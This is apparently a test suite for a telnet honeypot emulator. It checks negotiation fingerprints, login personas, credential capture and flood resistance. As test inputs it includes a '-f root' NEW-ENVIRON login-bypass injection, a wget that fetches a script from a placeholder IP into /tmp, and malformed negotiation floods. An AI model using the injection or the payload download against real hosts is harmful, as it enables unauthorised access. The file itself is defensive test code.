// A telnet client in the test (a raw socket from 127.0.0.3 that answers the
// negotiation like a real client): the netkit option order, the Debian login
// dialog, exact captures, the bait shell, the busybox and IOS personas, and
// hostile negotiation (floods, an unterminated subnegotiation) staying bounded.
import { test } from 'node:test'
import assert from 'node:assert/strict'
import { connect, type Socket } from 'node:net'
import { startEmulator } from '../../../test/helpers/emulator.js'
import { Severity } from '../../events/event.js'

const CLIENT = '127.0.0.3'
const IAC = 255, DONT = 254, DO = 253, WONT = 252, WILL = 251, SB = 250, SE = 240

interface ClientOptions {
  /** Options the client agrees to enable on its side when the server says DO. */
  will?: number[]
  ttype?: string
  environ?: [string, string][]
  /** Never answer the negotiation (a raw bot). */
  silent?: boolean
}

/** A minimal telnet client: answers DO/WILL, TTYPE/NEW-ENVIRON SEND, records what the server sent. */
class Client {
  readonly sock: Socket
  /** Every byte from the server, IAC sequences included. */
  raw = Buffer.alloc(0)
  /** The server's data with IAC sequences removed. */
  text = ''
  /** [verb, option] commands in arrival order, and SB payloads. */
  commands: [number, number][] = []
  subs: Buffer[] = []
  closed = false
  #waiters: (() => void)[] = []
  #st: 'data' | 'iac' | 'opt' | 'sb' | 'sbiac' = 'data'
  #verb = 0
  #sb: number[] = []

  constructor(readonly port: number, readonly host: string, readonly o: ClientOptions = {}) {
    this.sock = connect({ host, port, localAddress: CLIENT })
    this.sock.on('data', (d: Buffer) => {
      this.raw = Buffer.concat([this.raw, d])
      this.#parse(d)
      for (const w of this.#waiters.splice(0)) w()
    })
    this.sock.on('error', () => {})
    this.sock.on('close', () => {
      this.closed = true
      for (const w of this.#waiters.splice(0)) w()
    })
  }

  #parse(d: Buffer): void {
    for (const b of d) {
      switch (this.#st) {
        case 'data':
          if (b === IAC) this.#st = 'iac'
          else this.text += String.fromCharCode(b)
          break
        case 'iac':
          if (b === SB) { this.#st = 'sb'; this.#sb = [] } else if (b >= WILL) { this.#verb = b; this.#st = 'opt' } else this.#st = 'data'
          break
        case 'opt':
          this.#st = 'data'
          this.commands.push([this.#verb, b])
          this.#answer(this.#verb, b)
          break
        case 'sb':
          if (b === IAC) this.#st = 'sbiac'
          else this.#sb.push(b)
          break
        case 'sbiac':
          this.#st = b === SE ? 'data' : 'sb'
          if (b === SE) this.#subneg(Buffer.from(this.#sb))
          break
      }
    }
  }

  #answer(verb: number, opt: number): void {
    if (this.o.silent) return
    if (verb === DO) this.write(Buffer.from([IAC, (this.o.will ?? []).includes(opt) ? WILL : WONT, opt]))
    else if (verb === WILL) this.write(Buffer.from([IAC, opt === 1 || opt === 3 ? DO : DONT, opt]))
  }

  #subneg(sb: Buffer): void {
    this.subs.push(sb)
    if (sb[0] === 24 && sb[1] === 1) this.write(Buffer.concat([Buffer.from([IAC, SB, 24, 0]), Buffer.from(this.o.ttype ?? 'XTERM'), Buffer.from([IAC, SE])]))
    if (sb[0] === 39 && sb[1] === 1) {
      const body = (this.o.environ ?? []).flatMap(([k, v]) => [0, ...Buffer.from(k), 1, ...Buffer.from(v)])
      this.write(Buffer.from([IAC, SB, 39, 0, ...body, IAC, SE]))
    }
  }

  write(b: Buffer | string): void {
    if (!this.sock.destroyed) this.sock.write(b)
  }

  /** Resolves when `re` matches the text received so far (from `from`). */
  async waitFor(re: RegExp, ms = 8000, from = 0): Promise<string> {
    const deadline = Date.now() + ms
    for (;;) {
      const m = re.exec(this.text.slice(from))
      if (m) return m[0]
      if (this.closed) throw new Error(`closed before ${re} (got ${JSON.stringify(this.text)})`)
      if (Date.now() > deadline) throw new Error(`no ${re} within ${ms} ms (got ${JSON.stringify(this.text)})`)
      await new Promise<void>((r) => {
        const t = setTimeout(r, 100)
        this.#waiters.push(() => { clearTimeout(t); r() })
      })
    }
  }

  async waitClosed(ms = 8000): Promise<void> {
    const deadline = Date.now() + ms
    while (!this.closed && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50))
    assert.ok(this.closed, 'server did not close')
  }

  end(): void {
    this.sock.destroy()
  }
}

const hex = (b: Buffer) => b.toString('hex')

test('netkit option order, then the Debian login prompt; TERMINAL-TYPE and NEW-ENVIRON USER captured', async (t) => {
  const h = await startEmulator(t, 'telnet')
  const c = new Client(h.port(23), h.host, { will: [24, 39, 31], ttype: 'XTERM-256COLOR', environ: [['USER', '-f root'], ['DISPLAY', 'x:0']] })
  t.after(() => c.end())
  await c.waitFor(/SRV-TEST-01 login: $/)
  // the first segment is exactly netkit's opening (nmap: "Linux telnetd")
  assert.equal(hex(c.raw.subarray(0, 12)), 'fffd18fffd20fffd23fffd27')
  const cmds = c.commands.map(([v, o]) => `${v === WILL ? 'WILL' : v === DO ? 'DO' : v === WONT ? 'WONT' : 'DONT'} ${o}`)
  assert.deepEqual(cmds, ['DO 24', 'DO 32', 'DO 35', 'DO 39', 'WILL 3', 'DO 1', 'DO 31', 'WILL 5', 'DO 33', 'WILL 1'])
  // SB … SEND in netkit order (NEW-ENVIRON before TERMINAL-TYPE), only for what the client agreed to
  assert.deepEqual(c.subs.map((s) => hex(s)), ['2701', '1801'])
  assert.equal(c.text, '\r\nDebian GNU/Linux 12\r\nSRV-TEST-01 login: ')
  const tt = await h.sink.next('telnet_option', (e) => e.fields.option === 'TERMINAL-TYPE', 2000)
  assert.equal(tt.fields.value, 'XTERM-256COLOR')
  assert.equal(tt.fields.src_ip, CLIENT)
  const env = await h.sink.next('telnet_option', (e) => e.fields.option === 'NEW-ENVIRON', 2000)
  assert.equal(env.fields.user, '-f root')
  assert.equal(env.fields.injection, 'true')
  assert.equal(env.severity, Severity.WARNING)
  assert.deepEqual(JSON.parse(String(env.fields.vars)), [['USER', '-f root'], ['DISPLAY', 'x:0']])
})

test('three failures: exact captures, no password echo, ~3 s delay by timer, then disconnect', { timeout: 30_000 }, async (t) => {
  const h = await startEmulator(t, 'telnet')
  const c = new Client(h.port(23), h.host)
  t.after(() => c.end())
  await c.waitFor(/login: $/)
  const secrets = ['hunter2', 'P@ss w0rd é', 'x'.repeat(40)]
  for (const [i, secret] of secrets.entries()) {
    const mark = c.text.length
    c.write(`admin${i}\r\0`)
    await c.waitFor(/Password: $/, 8000, mark)
    assert.equal(c.text.slice(mark), `admin${i}\r\nPassword: `, 'username echoed, then the password prompt')
    const sent = Date.now()
    const mark2 = c.text.length
    c.write(`${secret}\r\n`)
    await c.waitFor(/Login incorrect\r\n/, 8000, mark2)
    const ms = Date.now() - sent
    assert.ok(ms >= 2000 && ms < 4500, `failure delay ${ms} ms`)
    assert.ok(!c.text.includes(secret), 'the password was echoed')
    if (i < 2) await c.waitFor(/login: $/, 2000, mark2)
  }
  await c.waitClosed()
  const attempts = h.sink.ofType('auth_attempt')
  assert.deepEqual(attempts.map((e) => [e.fields.username, e.fields.principal, Buffer.from(String(e.fields.secret_b64), 'base64').toString('utf8'), e.fields.outcome]),
    secrets.map((s, i) => [`admin${i}`, `admin${i}`, s, 'failure']))
  for (const e of attempts) {
    assert.equal(e.fields.src_ip, CLIENT)
    assert.equal(e.fields.secret_kind, 'plaintext')
  }
  assert.equal(attempts[1]?.fields.secret_printable, 'P@ss w0rd ??')
  assert.equal((await h.sink.next('auth_exhausted', () => true, 1000)).fields.attempts, '3')
})

test('bait login lands in the shared shell: uname -a and id answer like the persona, wget captured, transcript recorded', { timeout: 30_000 }, async (t) => {
  const h = await startEmulator(t, 'telnet', { password: 'toor' })
  const c = new Client(h.port(23), h.host, { will: [31] })
  t.after(() => c.end())
  await c.waitFor(/login: $/)
  c.write('root\r\n')
  await c.waitFor(/Password: $/)
  c.write('toor\r\n')
  await c.waitFor(/root@SRV-TEST-01:~# $/)
  assert.match(c.text, /Linux SRV-TEST-01 6\.1\.0-23-amd64 .*Debian/)
  assert.match(c.text, /Last login: .* from [\d.]+ on pts\/\d/)
  let mark = c.text.length
  c.write('uname -a\r\n')
  await c.waitFor(/# $/, 5000, mark)
  assert.match(c.text.slice(mark), /Linux SRV-TEST-01 6\.1\.0-23-amd64 #1 SMP PREEMPT_DYNAMIC Debian .* x86_64 GNU\/Linux/)
  mark = c.text.length
  c.write('id\r\n')
  await c.waitFor(/# $/, 5000, mark)
  assert.match(c.text.slice(mark), /uid=0\(root\) gid=0\(root\) groups=0\(root\)/)
  c.write('wget http://198.51.100.7/x.sh -O /tmp/x.sh\r\n')
  const dl = await h.sink.next('download_attempt', () => true, 5000)
  assert.equal(dl.fields.url, 'http://198.51.100.7/x.sh')
  assert.equal(dl.fields.src_ip, CLIENT)
  const ok = h.sink.ofType('auth_attempt')
  assert.deepEqual(ok.map((e) => [e.fields.username, e.fields.secret_printable, e.fields.outcome]), [['root', 'toor', 'success']])
  assert.equal((await h.sink.next('login', () => true, 1000)).fields.username, 'root')
  assert.ok(h.sink.ofType('command').some((e) => e.fields.cmd === 'id' && e.fields.src_ip === CLIENT))
  c.write('exit\r\n')
  await c.waitClosed()
  const rec = await h.sink.next('session_recorded', () => true, 3000)
  assert.equal(rec.fields.service, 'telnet')
  assert.match(String(rec.fields.transcript), /^transcripts\/sessions-\d{4}-\d\d-\d\d\.jsonl$/)
})

test('cisco persona: IOS negotiation, User Access Verification, % Authentication failed, then user EXEC', { timeout: 20_000 }, async (t) => {
  const h = await startEmulator(t, 'telnet', { user: 'netops', user_password: 'Cisco123' }, { decky: { osFamily: 'cisco', hostname: 'CORE-RTR-01' } })
  const c = new Client(h.port(23), h.host)
  t.after(() => c.end())
  await c.waitFor(/Username: $/)
  assert.equal(hex(c.raw.subarray(0, 12)), 'fffb01fffb03fffd18fffd1f')
  assert.equal(c.text, '\r\n\r\nUser Access Verification\r\n\r\nUsername: ')
  let mark = c.text.length
  c.write('admin\r\n')
  await c.waitFor(/Password: $/, 5000, mark)
  c.write('admin\r\n')
  await c.waitFor(/% Authentication failed\r\n\r\nUsername: $/, 5000, mark)
  mark = c.text.length
  c.write('netops\r\nCisco123\r\n')
  await c.waitFor(/CORE-RTR-01>$/, 5000, mark)
  mark = c.text.length
  c.write('show version\r\n')
  await c.waitFor(/CORE-RTR-01>$/, 5000, mark)
  assert.match(c.text.slice(mark), /Cisco IOS Software, C2911 Software/)
  const a = h.sink.ofType('auth_attempt')
  assert.deepEqual(a.map((e) => [e.fields.username, e.fields.secret_printable, e.fields.outcome, e.fields.src_ip]), [
    ['admin', 'admin', 'failure', CLIENT], ['netops', 'Cisco123', 'success', CLIENT],
  ])
})

test('embedded persona: busybox telnetd opening and login prompt', async (t) => {
  const h = await startEmulator(t, 'telnet', {}, { decky: { osFamily: 'embedded', hostname: 'ipcam-7f3a' } })
  const c = new Client(h.port(23), h.host, { silent: true })
  t.after(() => c.end())
  await c.waitFor(/login: $/)
  assert.equal(hex(c.raw.subarray(0, 12)), 'fffd01fffd1ffffb01fffb03')
  assert.equal(c.text, '\r\r\nipcam-7f3a login: ')
})

test('hostile negotiation stays bounded: option floods, an unterminated subnegotiation, then a normal login prompt', { timeout: 20_000 }, async (t) => {
  const h = await startEmulator(t, 'telnet')
  const c = new Client(h.port(23), h.host, { silent: true })
  t.after(() => c.end())
  await new Promise((r) => setTimeout(r, 100))
  const before = c.raw.length
  // 20 000 option requests: at most 64 answers
  const flood = Buffer.alloc(60_000)
  for (let i = 0; i < 20_000; i++) flood.set([IAC, i % 2 ? DO : WILL, i % 256 === 255 ? 254 : i % 256], i * 3)
  c.write(flood)
  // an unterminated TERMINAL-TYPE subnegotiation of 200 KiB (IAC IAC inside, no IAC SE yet)
  c.write(Buffer.from([IAC, SB, 24, 0]))
  for (let i = 0; i < 50; i++) c.write(Buffer.alloc(4096, 0x41))
  c.write(Buffer.from([IAC, IAC, IAC, SE]))
  const err = await h.sink.next('protocol_error', () => true, 5000)
  assert.equal(err.fields.error, 'subnegotiation_too_long')
  assert.equal(h.sink.ofType('protocol_error').length, 1)
  const tt = await h.sink.next('telnet_option', (e) => e.fields.option === 'TERMINAL-TYPE', 2000)
  assert.equal(tt.fields.truncated, 'true')
  assert.ok(String(tt.fields.value).length <= 512)
  // the connection still works: a keystroke ends the wait, the prompt comes
  c.write('\r\n')
  // the Enter typed ahead answers the prompt: an empty name still gets a password prompt, as from PAM
  await c.waitFor(/login: \r\nPassword: $/, 8000)
  assert.ok(c.raw.length - before < 64 * 3 + 400, `server sent ${c.raw.length - before} bytes`)
})

test('login timeout: the message, then disconnect reason login_timeout', { timeout: 20_000 }, async (t) => {
  const h = await startEmulator(t, 'telnet', {}, { limits: { maxHandshakeMs: 1500 } })
  const c = new Client(h.port(23), h.host)
  t.after(() => c.end())
  await c.waitFor(/login: $/)
  c.write('root\r\n')
  await c.waitFor(/Login timed out after 60 seconds\.\r\n/, 5000)
  await c.waitClosed(4000)
  const bye = await h.sink.next('disconnect', () => true, 3000)
  assert.equal(bye.fields.reason, 'login_timeout')
})
